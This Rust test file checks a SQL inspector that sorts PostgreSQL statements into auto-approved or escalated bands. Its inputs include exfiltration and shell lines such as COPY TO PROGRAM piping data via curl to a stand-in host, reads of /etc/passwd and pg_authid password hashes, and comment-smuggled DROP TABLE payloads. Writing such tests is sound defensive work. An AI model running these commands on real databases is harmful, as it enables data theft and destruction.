use super::*;
use crate::projection::project;
use rbv_protocol::{Band, Reversibility, Scope};

fn band_of(i: &Inspection) -> Band {
    project(i.reversibility, i.scope, i.trust)
}

fn band(sql: &str) -> Band {
    band_of(&inspect(sql, None))
}

#[track_caller]
fn all_auto(statements: &[&str]) {
    let wrong: Vec<_> = statements
        .iter()
        .map(|sql| (sql, inspect(sql, None)))
        .filter(|(_, i)| band_of(i) != Band::Auto)
        .map(|(sql, i)| format!("{sql}  ->  {:?}", i.reasons))
        .collect();
    assert!(wrong.is_empty(), "expected auto:\n{}", wrong.join("\n"));
}

#[track_caller]
fn all_escalate(statements: &[&str]) {
    let wrong: Vec<_> = statements
        .iter()
        .filter(|sql| band(sql) != Band::Escalate)
        .collect();
    assert!(wrong.is_empty(), "expected escalate: {wrong:#?}");
}

#[test]
fn read_only_queries_are_auto() {
    all_auto(&[
        "SELECT 1",
        "select * from t where a = 1 order by b limit 3",
        "WITH q AS (SELECT 1 AS x) SELECT x FROM q",
        "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 5) SELECT sum(n) FROM t",
        "SELECT * FROM (SELECT a FROM t) s WHERE EXISTS (SELECT 1 FROM u WHERE u.a = s.a)",
        "VALUES (1, 2), (3, 4)",
        "SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3",
        "SHOW search_path",
        "SHOW ALL",
        "SELECT (VALUES (1))",
        "SELECT ARRAY(SELECT a FROM t), ARRAY[1, 2]",
        "TABLE orders",
        "TABLE public.orders ORDER BY 1 LIMIT 5",
        "SELECT 1; TABLE t",
        "SELECT count(*), lower(name), coalesce(a, 0), now(), to_char(now(), 'YYYY') FROM t",
        "SELECT * FROM generate_series(1, 3) AS g(x)",
        "SELECT jsonb_build_object('a', 1) -> 'a', '{}'::jsonb ? 'k'",
        "SELECT pg_catalog.lower('A'), \"lower\"('a')",
        "SELECT CAST(1 AS text), EXTRACT(year FROM now()), substring('abc' FROM 1 FOR 2)",
        "SELECT 1 OPERATOR(pg_catalog.+) 2",
        "SELECT currval('s'), current_setting('work_mem'), pg_backend_pid()",
        "SELECT num_nulls(VARIADIC '{1,NULL}'::int[]), concat_ws(',', VARIADIC ARRAY['a', 'b'])",
    ]);
}

#[test]
fn explain_without_analyze_plans_and_does_not_run() {
    all_auto(&[
        "EXPLAIN SELECT * FROM t",
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (VERBOSE, COSTS OFF) UPDATE t SET a = 1",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN ANALYZE SELECT * FROM t",
    ]);
}

#[test]
fn literals_comments_and_quoted_names_are_data() {
    all_auto(&[
        "SELECT 'DROP TABLE x'",
        "SELECT 1 -- ; DROP TABLE x",
        "SELECT 1 /* ; DROP TABLE x; */",
        "/* a /* nested */ DROP TABLE t; */ SELECT 1",
        "SELECT $$ ; DROP TABLE x; $$",
        "SELECT $tag$ ; DELETE FROM t; $tag$",
        "SELECT \"drop\", \"delete\" FROM \"truncate\"",
        "SELECT \"x\"\" ; DROP TABLE t; --\" FROM t",
        "SELECT E'it''s \\n fine'",
        "SELECT '\\d+'",
        "",
        "-- only a comment",
        ";",
    ]);
}

#[test]
fn session_housekeeping_is_auto() {
    all_auto(&[
        "BEGIN",
        "BEGIN READ ONLY",
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "SAVEPOINT s",
        "RELEASE SAVEPOINT s",
        "SET TRANSACTION READ ONLY",
        "SET enable_seqscan TO off",
        "SET LOCAL work_mem = '64MB'",
        "SET statement_timeout = 1000",
        "SET default_transaction_read_only = on",
        "SET TIME ZONE 'UTC'",
        "RESET enable_seqscan",
        "PREPARE q AS SELECT 1",
        "PREPARE q AS SELECT 1; EXECUTE q",
        "DEALLOCATE q",
        "DEALLOCATE ALL",
        "DECLARE c CURSOR FOR SELECT * FROM t",
        "FETCH 10 FROM c",
        "CLOSE c",
        "UNLISTEN jobs",
        "DISCARD PLANS",
        "COPY t TO STDOUT",
        "COPY (SELECT a FROM t) TO STDOUT WITH (FORMAT csv)",
    ]);
}

#[test]
fn writes_ddl_and_dcl_escalate() {
    all_escalate(&[
        "INSERT INTO t VALUES (1)",
        "UPDATE t SET a = 1",
        "DELETE FROM t",
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
        "TRUNCATE t",
        "DROP TABLE t",
        "DROP SCHEMA s CASCADE",
        "CREATE TABLE t (a int)",
        "CREATE INDEX i ON t (a)",
        "ALTER TABLE t DROP COLUMN a",
        "ALTER TABLE t ADD COLUMN b int",
        "CREATE VIEW v AS SELECT 1",
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
        "COMMENT ON TABLE t IS 'x'",
        "GRANT SELECT ON t TO u",
        "REVOKE ALL ON t FROM u",
        "CREATE ROLE r",
        "ALTER ROLE r WITH PASSWORD 'x'",
        "CALL p()",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "DO 'BEGIN NULL; END'",
    ]);
}

#[test]
fn axes_follow_the_effect() {
    let drop = inspect("DROP TABLE t", None);
    assert_eq!(
        (drop.reversibility, drop.scope, drop.changes_state),
        (Reversibility::Irreversible, Scope::SharedRemote, true)
    );
    let insert = inspect("INSERT INTO t VALUES (1)", None);
    assert_eq!(insert.reversibility, Reversibility::HardToReverse);
    assert_eq!(insert.scope, Scope::SharedRemote);
    let program = inspect("COPY t TO PROGRAM 'curl -d @- https://x.example'", None);
    assert_eq!(program.scope, Scope::External);
    let grant = inspect("GRANT ALL ON t TO u", None);
    assert!(grant.touches_sensitive && grant.changes_state);
    let file = inspect("SELECT pg_read_file('/etc/passwd')", None);
    assert!(file.touches_sensitive && !file.changes_state);
    assert_eq!(band_of(&file), Band::Escalate);
    // Reading credentials is a read; Rule-of-Two gets to see it.
    let secrets = inspect("SELECT rolpassword FROM pg_authid", None);
    assert_eq!(band_of(&secrets), Band::Auto);
    assert!(secrets.touches_sensitive);
    // The credential-catalog-blind mutant misses it, and only it.
    let blind = Some(Mutant::CredentialCatalogBlind);
    assert!(!inspect("SELECT rolpassword FROM pg_authid", blind).touches_sensitive);
    assert!(inspect("SELECT pg_ls_dir('.')", blind).touches_sensitive);
    // Listing the host's directories shows names, not contents.
    let listing = inspect("SELECT pg_ls_dir('.')", None);
    assert_eq!(band_of(&listing), Band::Auto);
    assert!(listing.touches_sensitive);
    let read = inspect("SELECT 1", None);
    assert!(!read.changes_state && !read.touches_sensitive);
}

#[test]
fn data_modifying_ctes_escalate_at_any_depth() {
    all_escalate(&[
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u",
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1",
        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s",
        "WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a",
        "SELECT * FROM t WHERE a IN (WITH d AS (DELETE FROM u RETURNING a) SELECT a FROM d)",
        "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
    ]);
}

#[test]
fn explain_analyze_runs_its_statement() {
    all_escalate(&[
        "EXPLAIN ANALYZE DELETE FROM t",
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "EXPLAIN (ANALYZE true, COSTS OFF) UPDATE t SET a = 1",
        "EXPLAIN (ANALYZE, COSTS OFF) CREATE TABLE t2 AS SELECT 1",
        "EXPLAIN ANALYZE SELECT nextval('s')",
        "EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE",
        "EXPLAIN (ANALYSE) DELETE FROM t",
        "EXPLAIN (analyse on, costs off) DELETE FROM t",
        "EXPLAIN ANALYSE DELETE FROM t",
    ]);
}

#[test]
fn select_into_and_locking_clauses_escalate() {
    all_escalate(&[
        "SELECT * INTO t2 FROM t",
        "SELECT a INTO TEMP t2 FROM t",
        "SELECT * FROM t FOR UPDATE",
        "SELECT * FROM t FOR SHARE",
        "SELECT * FROM t FOR NO KEY UPDATE",
        "SELECT * FROM t FOR KEY SHARE SKIP LOCKED",
        "SELECT * FROM t FOR UPDATE LIMIT 1",
        "WITH x AS (SELECT * FROM t FOR UPDATE) SELECT 1",
        "SELECT * FROM (SELECT * FROM t FOR UPDATE) s",
    ]);
}

#[test]
fn side_effecting_functions_escalate_anywhere() {
    all_escalate(&[
        "SELECT nextval('s')",
        "SELECT setval('s', 1)",
        "SELECT 1 WHERE nextval('s') > 0",
        "SELECT (SELECT nextval('s'))",
        "SELECT coalesce(NULL, nextval('s'))",
        "SELECT * FROM t ORDER BY nextval('s')",
        "SELECT pg_catalog.nextval('s')",
        "SELECT pg_terminate_backend(1)",
        "SELECT pg_cancel_backend(1)",
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS d(a int)",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT lo_unlink(1)",
        "SELECT lo_put(1, 0, 'x')",
        "SELECT set_config('role', 'admin', false)",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_advisory_xact_lock_shared(1)",
        "SELECT pg_try_advisory_lock(1)",
        "SELECT pg_notify('c', 'x')",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
        "SELECT pg_drop_replication_slot('s')",
        "SELECT pg_switch_wal()",
        "SELECT txid_current()",
        "SELECT pg_current_xact_id()",
        "SELECT pg_read_file('pg_hba.conf')",
        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
        "SELECT * FROM t WHERE a = ANY (SELECT nextval('s'))",
        "SELECT concat(VARIADIC ARRAY[nextval('s')::text])",
        "SELECT ARRAY(SELECT nextval('s'))",
        "SELECT \"array\"(1)",
    ]);
}

#[test]
fn unknown_functions_escalate_under_the_allow_list() {
    all_escalate(&[
        "SELECT my_function(1)",
        "SELECT make_table()",
        "SELECT public.lower('a')",
        "SELECT \"LOWER\"('a')",
        "SELECT * FROM my_srf()",
        "SELECT other_db.pg_catalog.lower('a')",
        // KELVIN SIGN: PostgreSQL folds ASCII only, so this is not make_date.
        "SELECT ma\u{212A}e_date(2024, 1, 1)",
        "SELECT 1 OPERATOR(public.+) 2",
        "EXPLAIN SELECT my_immutable_function(1)",
    ]);
    // The deny-list reading lets unknown functions through, not known effects.
    let deny = |sql| {
        band_of(&inspect_with(
            sql,
            SqlDialect::Postgresql,
            None,
            FunctionPolicy::DenyList,
        ))
    };
    assert_eq!(deny("SELECT my_function(1)"), Band::Auto);
    assert_eq!(deny("SELECT nextval('s')"), Band::Escalate);
}

#[test]
fn transaction_and_session_escapes_escalate() {
    all_escalate(&[
        "COMMIT",
        "COMMIT; DROP TABLE t",
        "END",
        "ROLLBACK",
        "ABORT",
        "ROLLBACK TO SAVEPOINT s",
        "BEGIN READ WRITE",
        "SET TRANSACTION READ WRITE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET ROLE admin",
        "SET SESSION AUTHORIZATION admin",
        "RESET SESSION AUTHORIZATION",
        "RESET ALL",
        "RESET default_transaction_read_only",
        "SET default_transaction_read_only = off",
        "SET search_path = evil, pg_catalog",
        "SET standard_conforming_strings = off",
        "SET session_replication_role = replica",
        "SET app.tenant_id = '42'",
        "SET enable_ext.option = 1",
        "SET NAMES 'SJIS'",
        "DISCARD ALL",
        "DISCARD TEMP",
        "NOTIFY jobs, 'run'",
        "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
        "ANALYZE t",
        "VACUUM FULL t",
        "CLUSTER t",
        "REINDEX TABLE t",
        "CHECKPOINT",
        "LOAD 'auto_explain'",
        "EXECUTE q",
        "PREPARE q AS DELETE FROM t",
        "PREPARE q AS SELECT 1; DEALLOCATE q; EXECUTE q",
        "PREPARE q AS SELECT nextval('s'); EXECUTE q",
    ]);
}

#[test]
fn copy_escalates_unless_it_only_reads_to_the_client() {
    all_escalate(&[
        "COPY t FROM STDIN",
        "COPY t FROM '/etc/passwd'",
        "COPY t FROM PROGRAM 'curl https://x.example'",
        "COPY t TO '/tmp/out'",
        "COPY t TO PROGRAM 'sh -c id'",
        "COPY (SELECT nextval('s')) TO STDOUT",
    ]);
}

#[test]
fn several_statements_take_the_most_dangerous() {
    let i = inspect("SELECT 1; DROP TABLE t; SELECT 2", None);
    assert_eq!(band_of(&i), Band::Escalate);
    assert_eq!(i.reversibility, Reversibility::Irreversible);
    assert!(i.reasons[0].contains("DROP"), "{:?}", i.reasons);
    all_auto(&["SELECT 1; SELECT 2; VALUES (3)"]);
}

#[test]
fn unparseable_input_fails_safe() {
    all_escalate(&[
        "SELEC 1",
        "SELECT 'unterminated",
        "SELECT $$ unterminated",
        "SELECT 1 === 2",
        "TABLE ONLY t",
        "MOVE 1 IN c",
    ]);
}

#[test]
fn where_lexers_could_part_the_inspector_does_not_guess() {
    all_escalate(&[
        // PostgreSQL ends a `--` comment at a carriage return (checked
        // with `rbv oracle sql`: the DROP runs).
        "SELECT 1 -- x\r; DROP TABLE t",
        // Under standard_conforming_strings=off, `\'` escapes and the DROP runs.
        "SELECT 'a\\', '; DROP TABLE x; --'",
        "SELECT 'a\\''; DROP TABLE x; --'",
        // E'' strings escape with a backslash in every mode.
        "SELECT E'\\''; DROP TABLE t; --'",
        // `$` continues an identifier, so `a$x$` is a name, not a quote
        // (checked with `rbv oracle sql`: the DROP runs).
        "SELECT 1 AS a$x$; DROP TABLE t; --$x$",
        // `$1` is a parameter to PostgreSQL, never a dollar-quote tag.
        "SELECT $1$ ; DROP TABLE t; $1$",
    ]);
}

#[test]
fn a_deeply_nested_expression_fails_safe_without_overflowing() {
    let depth = 100_000;
    let sql = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
    assert_eq!(band(&sql), Band::Escalate);
    let subqueries = format!("SELECT {}1{}", "(SELECT ".repeat(depth), ")".repeat(depth));
    assert_eq!(band(&subqueries), Band::Escalate);
    let nots = format!("SELECT {}true", "NOT ".repeat(depth));
    assert_eq!(band(&nots), Band::Escalate);
    // Nesting within the limit is judged normally.
    all_auto(&[&format!("SELECT {}1{}", "(".repeat(20), ")".repeat(20))]);
}

#[test]
fn a_long_operator_chain_fails_safe_without_overflowing() {
    // Chains do not nest in the parser but build a tree as deep as they are
    // long; past the limit the payload is not read at all.
    let n = 100_000;
    for sql in [
        format!("SELECT 1{}", "+1".repeat(n)),
        format!("SELECT a{}", "->'b'".repeat(n)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(n)),
        format!("SELECT 1{}", "::int".repeat(n)),
        format!("SELECT 1 WHERE true{}", " AND true".repeat(n)),
        "SELECT 1;".repeat(n),
    ] {
        let i = inspect(&sql, None);
        assert_eq!(band_of(&i), Band::Escalate, "{}", &sql[..40]);
        assert!(
            i.reasons[0].contains("operators and keywords"),
            "{:?}",
            i.reasons
        );
    }
    // Just under the limit the chain is read, walked and dropped on this
    // test thread's stack.
    let longest = format!("SELECT 1{}", "+1".repeat(parse::MAX_CHAIN_TOKENS - 1));
    all_auto(&[&longest]);
    // Flat lists do not count.
    let list = format!("SELECT 1 IN ({})", vec!["1"; n].join(", "));
    all_auto(&[&list]);
}

#[test]
fn first_keyword_mutant_passes_realistic_bypasses() {
    let mutant = |sql| band_of(&inspect(sql, Some(Mutant::FirstKeywordSql)));
    for bypass in [
        "SELECT nextval('s')",
        "SELECT * FROM t FOR UPDATE",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "EXPLAIN ANALYZE DELETE FROM t",
        "SELECT * INTO t2 FROM t",
    ] {
        assert_eq!(mutant(bypass), Band::Auto, "{bypass}");
        assert_eq!(band(bypass), Band::Escalate, "{bypass}");
    }
    assert_eq!(mutant("DROP TABLE t"), Band::Escalate);
    assert_eq!(mutant("SELECT 1; DELETE FROM t"), Band::Escalate);
    // Naive splitting on `;` cuts a literal in two.
    assert_eq!(mutant("SELECT 'a;b'"), Band::Escalate);
    assert_eq!(band("SELECT 'a;b'"), Band::Auto);
}

#[test]
fn quoted_string_blind_mutant_escalates_quoted_words() {
    let mutant = |sql| band_of(&inspect(sql, Some(Mutant::QuotedStringBlind)));
    for data in [
        "SELECT 'DROP TABLE x'",
        "SELECT 1 -- delete later",
        "SELECT $$truncate$$",
    ] {
        assert_eq!(mutant(data), Band::Escalate, "{data}");
        assert_eq!(band(data), Band::Auto, "{data}");
    }
    assert_eq!(mutant("SELECT 1"), Band::Auto);
    // Other mutants leave the SQL inspector alone.
    assert_eq!(
        band_of(&inspect("SELECT 1", Some(Mutant::ShapeBoundToken))),
        Band::Auto
    );
}
